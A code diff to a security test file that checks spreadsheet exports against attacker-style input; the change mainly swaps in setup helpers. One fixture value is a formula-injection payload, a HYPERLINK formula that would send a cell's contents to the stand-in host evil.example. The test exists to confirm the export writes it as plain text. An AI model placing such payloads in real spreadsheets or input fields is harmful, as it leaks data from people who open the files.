@@ -3,7 +3,7 @@ import { ID_TYPE } from '@saola/core/constants';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { newAccount } from '../src/db/records';
-import { startTestServer, type TestServer } from './harness';
+import { demoPasswordHash, startWithOwner, type TestServer } from './harness';
 import { downloadJob, readBook } from './job-files';
 
 /** Exports started as an attacker would start them: other schools' ids, broken dates, names that are formulas. */
@@ -11,8 +11,7 @@ let t: TestServer;
 let owner: string;
 let otherUnit: number;
 beforeAll(async () => {
-  t = await startTestServer();
-  owner = await t.signIn('owner');
+  ({ t, owner } = await startWithOwner());
   const other = await t.addOtherSite();
   otherUnit = (
     await t.server.connection.db
@@ -51,13 +50,7 @@ describe('export filters', () => {
 
 describe('formula injection', () => {
   it('writes a learner whose name is a formula as text, never as a formula a spreadsheet would run', async () => {
-    const hash = (
-      await t.server.connection.db
-        .selectFrom('users')
-        .select('passwordHash')
-        .where('username', '=', 'owner')
-        .executeTakeFirstOrThrow()
-    ).passwordHash;
+    const hash = await demoPasswordHash(t.server.connection.db);
     const name = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
     await t.server.connection.db
       .insertInto('users')
